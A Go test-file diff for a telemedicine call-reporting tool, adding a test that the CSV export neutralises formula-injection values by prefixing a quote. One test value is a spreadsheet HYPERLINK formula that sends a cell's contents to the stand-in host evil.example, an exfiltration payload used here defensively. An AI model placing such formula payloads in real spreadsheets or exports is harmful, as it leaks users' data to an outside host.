@@ -7,11 +7,14 @@ import (
 	"encoding/json"
 	"fmt"
 	"math/rand/v2"
+	"slices"
 	"strconv"
 	"strings"
 	"sync"
 	"testing"
 	"time"
+
+	"cloud.google.com/go/firestore"
 
 	"github.com/telemed/videocalls/hms"
 	"github.com/telemed/videocalls/internal/emulatortest"
@@ -228,4 +231,79 @@ func expected(t *testing.T, raws [][]byte) map[string]figures {
 		out[appt] = f
 	}
 	return out
+}
+
+// formulaChars are the first characters of a cell that a spreadsheet may
+// run as a formula (OWASP, CSV injection), written out here on their own.
+const formulaChars = "=+-@\t\r"
+
+// TestCSVInjection reads, through the real path (the emulator, the store's
+// query, the CSV writer), ended calls whose appointment id, doctor, client
+// and endedBy uids start with formula characters. No cell of the report
+// starts with one, and each such value is there after one quote, as
+// stored. A visit with negative seconds (a corrupt document: the webhook
+// never writes one) shows its minutes after a quote too, as text: the rule
+// is the same for every cell (docs/decisions.md).
+func TestCSVInjection(t *testing.T) {
+	host := emulatortest.Firestore(t)
+	const project = "demo-report-injection"
+	emulatortest.Wipe(t, project)
+	ctx := context.Background()
+	fs, err := firestore.NewClient(ctx, project)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer fs.Close()
+	const probe = `=HYPERLINK("https:evil.example?d="&A1,"Open the record")`
+	end := time.Date(2026, 12, 2, 10, 30, 0, 0, time.UTC)
+	calls := map[string]map[string]any{
+		probe: {"doctorId": "@doctor", "clientId": "+client", "startedAt": end.Add(-30 * time.Minute), "endedAt": end,
+			"sessionCount": int64(1), "endedBy": map[string]any{"uid": "-1+1"},
+			"visit": map[string]any{"doctorSec": int64(1800), "clientSec": int64(1500), "togetherSec": int64(1500), "waitSec": int64(60)}},
+		"appt-2": {"doctorId": "\tdoctor", "clientId": "'=already quoted", "startedAt": end.Add(-time.Hour), "endedAt": end.Add(time.Minute),
+			"sessionCount": int64(2), "endedBy": map[string]any{"uid": "\r=1+1"},
+			"visit": map[string]any{"doctorSec": int64(-90), "clientSec": int64(0), "togetherSec": int64(0), "waitSec": int64(0)}},
+	}
+	for id, d := range calls {
+		if _, err := fs.Collection("calls").Doc(id).Set(ctx, d); err != nil {
+			t.Fatal(err)
+		}
+	}
+	lookup := func(k string) (string, bool) {
+		switch k {
+		case "FIRESTORE_EMULATOR_HOST":
+			return host, true
+		case "GOOGLE_CLOUD_PROJECT":
+			return project, true
+		}
+		return "", false
+	}
+	var out, errOut bytes.Buffer
+	if code := run(ctx, []string{"--since", "2026-12-02", "--until", "2026-12-03", "--csv"}, lookup, &out, &errOut); code != 0 {
+		t.Fatalf("report: exit %d: %s", code, errOut.String())
+	}
+	rows, err := csv.NewReader(strings.NewReader(out.String())).ReadAll()
+	if err != nil || len(rows) != 3 {
+		t.Fatalf("%v: want the header and 2 rows:\n%s", err, out.String())
+	}
+	for i, row := range rows {
+		for j, c := range row {
+			if c != "" && strings.ContainsRune(formulaChars, rune(c[0])) {
+				t.Errorf("row %d, %s = %q starts with a formula character", i, columns[j], c)
+			}
+		}
+	}
+	col := func(row []string, name string) string { return row[slices.Index(columns, name)] }
+	// encoding/csv writes CRLF line ends and drops a lone CR in a field:
+	// "\r=1+1" is "'=1+1" in the file.
+	for i, want := range []map[string]string{
+		{"appointmentId": "'" + probe, "doctorId": "'@doctor", "clientId": "'+client", "endedBy": "'-1+1", "doctorMin": "30.0", "waitMin": "1.0"},
+		{"appointmentId": "appt-2", "doctorId": "'\tdoctor", "clientId": "''=already quoted", "endedBy": "'=1+1", "doctorMin": "'-1.5", "clientMin": "0.0"},
+	} {
+		for k, v := range want {
+			if got := col(rows[i+1], k); got != v {
+				t.Errorf("row %d %s = %q, want %q", i+1, k, got, v)
+			}
+		}
+	}
 }
